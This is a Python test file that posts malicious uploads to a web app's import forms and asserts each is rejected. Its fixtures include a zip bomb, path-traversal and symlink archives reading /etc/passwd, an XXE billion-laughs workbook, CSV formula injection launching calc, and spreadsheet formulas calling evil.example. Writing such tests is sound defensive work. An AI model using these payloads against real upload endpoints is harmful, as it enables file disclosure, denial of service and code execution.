"""Files that are not what they seem, wherever somebody can send one: told, never an error."""

from __future__ import annotations

import io
import stat
import tracemalloc
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path
from typing import Final, NamedTuple

import pytest
import xlsxwriter
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from models import Child, Location, Offer, Room, Season, Tutor
from models.database import reading
from tests.hard_knocks.answers import faults_of
from tests.web.exchange.desk import HERE
from tests.web.site import Browser, Site
from tests.web.summer import put_summer

_MEGABYTE: Final = 1024 * 1024
_MOST_MEMORY: Final = 400 * _MEGABYTE
"""Of Python's own, at any moment of looking at one file."""

SEASON_FILE: Final = "/werk/gent/seizoen-maken/bestand"


def zipped(files: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    return zipped({f"{name}.csv": bytes(100 * _MEGABYTE) for name in ("rooms", "offers", "pins")})


def linked() -> bytes:
    """A zip with a symbolic link to a file of the machine."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        link = zipfile.ZipInfo("rooms.csv")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        packed.writestr(link, "/etc/passwd")
    return made.getvalue()


def workbook(fill: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True})
    fill(book)
    book.close()
    return made.getvalue()


def formulas(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("rooms")
    sheet.write_row(0, 0, ["room_id", "capacity"])
    sheet.write_formula(1, 0, "='[http://evil.example/a.xlsx]Sheet1'!A1", None, "R1")
    sheet.write_formula(1, 1, '=WEBSERVICE("http://evil.example/")', None, 12)
    sheet.write_url(2, 0, "external:\\\\evil.example\\share\\a.xlsx", None, "R2")
    sheet.write_formula(2, 1, "=1/0", None, "#DIV/0!")


def far_cell(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("rooms")
    sheet.write(0, 0, "room_id")
    sheet.write(1_048_575, 16_383, "x")


def changed(content: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """A workbook with something else in one of its parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        files = {name: packed.read(name) for name in packed.namelist()}
    files[part] = files[part].replace(old, new, 1)
    return zipped(files)


def entities() -> bytes:
    """A workbook whose XML unfolds without end."""
    text = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(12)
    )
    begin = b'<!DOCTYPE w [<!ENTITY x SYSTEM "/etc/passwd">' + laughs + b"]>"
    return changed(workbook(formulas), "xl/workbook.xml", text, text + begin)


FILES: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "nothing": ("rooms.csv", lambda: b""),
    "nothing in a zip": ("a.zip", lambda: zipped({})),
    "a bomb": ("a.zip", bomb),
    "a zip in a zip": ("a.zip", lambda: zipped({"rooms.csv": zipped({"rooms.csv": b"a,b\n"})})),
    "names that lead out": (
        "a.zip",
        lambda: zipped({"../../rooms.csv": b"a\n", "/etc/rooms.csv": b"a\n", "C:\\x.csv": b"a"}),
    ),
    "a link in a zip": ("a.zip", linked),
    "many files in a zip": ("a.zip", lambda: zipped({f"{n}.csv": b"" for n in range(3000)})),
    "half a zip": ("a.zip", lambda: zipped({"rooms.csv": b"room_id\nR1\n" * 99})[:150]),
    "a program": ("rooms.xlsx", lambda: b"MZ\x90\x00" + bytes(5000)),
    "a picture": ("rooms.csv", lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
    "a pdf": ("../../rooms.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" * 30),
    "no characters": ("rooms.csv", lambda: b"room_id,capacity\nR\x001,1\x002\n"),
    "utf-16": ("rooms.csv", lambda: "room_id,capacity\nR1,12\n".encode("utf-16")),
    "a mark of utf-8": ("rooms.csv", lambda: b"\xef\xbb\xbf\xef\xbb\xbfroom_id,capacity\nR1,x\n"),
    "one long line": ("rooms.csv", lambda: b"room_id,capacity\n" + b"R" * _MEGABYTE + b",1\n"),
    "many columns": ("rooms.csv", lambda: b",".join([b"room_id"] * 50_000) + b"\n"),
    "a quote without end": ("rooms.csv", lambda: b'room_id,capacity\n"R1,12\n' + b"x\n" * 9999),
    "formulas as text": ("rooms.csv", lambda: b"room_id,capacity\n=cmd|' /C calc'!A0,@SUM(1)\n"),
    "a name that turns": ("\u202evsc.smoor/../..\\rooms\x00.csv", lambda: b"a,b\n1,2\n"),
    "a long name": ("r" * 3000 + ".csv", lambda: b"a,b\n1,2\n"),
    "formulas and links": ("rooms.xlsx", lambda: workbook(formulas)),
    "a cell far away": ("rooms.xlsx", lambda: workbook(far_cell)),
    "a claim of many texts": (
        "rooms.xlsx",
        lambda: changed(
            workbook(formulas), "xl/sharedStrings.xml", b'count="', b'count="4000000000'
        ),
    ),
    "entities": ("rooms.xlsx", entities),
    "a workbook without sheets": (
        "rooms.xlsx",
        lambda: changed(workbook(formulas), "xl/workbook.xml", b"<sheets>", b"<!--"),
    ),
}


_GROWING: Final = frozenset(
    ("a bomb", "a cell far away", "a claim of many texts", "entities", "one long line")
)
"""Those that may take much more memory than they are large."""


class Sent(NamedTuple):
    """A file in a form."""

    field: str
    name: str
    content: bytes


class Ended(NamedTuple):
    """How it ended: the last page, and what is wrong with it."""

    status: int
    page: str
    wrong: list[str]


@cache
def content_of(kind: str) -> bytes:
    return FILES[kind][1]()


@pytest.fixture
def storage(site: Site, tmp_path: Path) -> Path:
    """A storage folder of its own, and a summer to bring files into."""
    key, folder = "zomerwijzer-configuration", tmp_path / "storage"
    site.app.extensions[key] = site.app.extensions[key].model_copy(update={"storage": folder})
    put_summer(site.engine, site.town, at=site.clock.at)
    return folder


def rows(site: Site) -> list[int]:
    with reading(site.engine)() as session:
        return [
            session.scalar(select(func.count()).select_from(model)) or 0
            for model in (Child, Location, Offer, Room, Season, Tutor)
        ]


def posted(browser: Browser, path: str, fields: Mapping[str, str], file: Sent) -> TestResponse:
    """Send a form with a file, byte for byte as given here."""
    parts = [(f'name="{name}"', value.encode()) for name, value in fields.items()]
    parts.append((f'name="{file.field}"; filename="{file.name}"', file.content))
    body = b"".join(
        b"--knock\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n" % (about.encode(), content)
        for about, content in parts
    )
    kind = "multipart/form-data; boundary=knock"
    return browser.client.post(path, data=body + b"--knock--\r\n", content_type=kind)


def send(browser: Browser, path: str, field: str, kind: str, **more: str) -> Ended:
    """Send a file, follow where it leads, and how it ended."""
    file = Sent(field, FILES[kind][0], content_of(kind))
    fields = {"csrf_token": browser.token(), **more}
    if kind in _GROWING:
        tracemalloc.start()
    answer = posted(browser, path, fields, file)
    wrong = faults_of(answer, ("root:x:0",))
    if answer.status_code in {302, 303}:
        answer = browser.get(answer.location)
        wrong += faults_of(answer, ("root:x:0",))
    if kind in _GROWING:
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        if most > _MOST_MEMORY:
            wrong.append(f"{most // _MEGABYTE} MB of memory")
    return Ended(answer.status_code, answer.text, wrong)


def test_files_to_bring_in(site: Site, storage: Path) -> None:
    browser, before, found = site.browser("coordinator"), rows(site), {}
    for kind in FILES:
        status, page, wrong = send(
            browser, f"{HERE}/bestanden/sturen", "file", kind, tables="rooms"
        )
        says = "govuk-error-summary" in page or "Lees dit in" not in page
        found[kind] = (status, says, wrong)
    accepted = {kind for kind, (_status, says, _wrong) in found.items() if not says}
    assert {kind: wrong for kind, (_, _, wrong) in found.items() if wrong} == {}
    assert {status for status, _, _ in found.values()} <= {200, 413, 422}
    assert accepted == set()
    assert rows(site) == before
    assert [path for path in storage.rglob("*") if path.suffix not in {".import", ""}] == []


def test_files_of_a_new_season(site: Site, storage: Path) -> None:
    browser, before, found = site.browser("coordinator"), rows(site), {}
    for kind in FILES:
        status, page, wrong = send(browser, SEASON_FILE, "dataset", kind)
        found[kind] = (status, "govuk-error-summary" in page, wrong)
    assert {kind: wrong for kind, (_, _, wrong) in found.items() if wrong} == {}
    assert {found[kind][:2] for kind in FILES} == {(422, True)}
    assert rows(site) == before
    assert [path for path in storage.rglob("*") if path.is_file()] == []


def test_a_file_that_is_too_large_is_not_taken(site: Site, storage: Path) -> None:
    browser = site.browser("coordinator")
    most = site.app.config["MAX_CONTENT_LENGTH"]
    for path, field in ((f"{HERE}/bestanden/sturen", "file"), (SEASON_FILE, "dataset")):
        file = Sent(field, "a.zip", bytes(most + 1))
        answer = posted(browser, path, {"csrf_token": browser.token()}, file)
        assert (answer.status_code, faults_of(answer, ())) == (413, [])
        assert "Dat is te groot" in answer.text
    assert not storage.exists() or [path for path in storage.rglob("*") if path.is_file()] == []
